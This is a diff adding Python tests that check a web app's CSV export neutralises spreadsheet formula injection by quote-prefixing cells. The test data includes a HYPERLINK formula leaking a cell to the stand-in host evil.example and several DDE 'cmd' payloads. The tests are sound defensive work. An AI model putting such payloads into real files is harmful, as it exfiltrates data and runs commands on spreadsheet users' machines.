@@ -391,3 +391,45 @@ def test_post_search_names_an_unknown_parameter(cast):
 def test_post_search_is_for_members_only(cast):
     response = api(cast.outsider).post("/api/v1/workspaces/lab/runs/search", {}, format="json")
     assert response.status_code == 404
+
+
+# --- injection --------------------------------------------------------------------------------
+
+
+def csv_rows(response) -> list[list[str]]:
+    import csv
+    import io
+
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_the_csv_export_neutralises_formula_cells_and_leads_with_the_run_id(cast, make_run, text):
+    run = make_run(display_name=text, tags={"note": text})
+    services.run_log_batch(run=run, metrics=[{"name": "delta", "values": [-0.5]}])
+    rows = csv_rows(
+        browser(cast.reader).get(
+            "/w/lab/runs.csv", {"col": ["display_name", "tags.note", "metrics.delta.last"]}
+        )
+    )
+    assert rows[0] == ["run_id", "display_name", "tags.note", "metrics.delta.last"]
+    assert rows[1] == [run.run_id, "'" + text, "'" + text, "-0.5"]
+
+
+def test_the_csv_export_leaves_plain_numbers_in_text_cells_alone(cast, make_run):
+    run = make_run(display_name="-3", tags={"lr": "-1e-3", "f": "=1"})
+    rows = csv_rows(
+        browser(cast.reader).get("/w/lab/runs.csv", {"col": ["display_name", "tags.lr", "tags.f"]})
+    )
+    assert rows[1] == [run.run_id, "-3", "-1e-3", "'=1"]
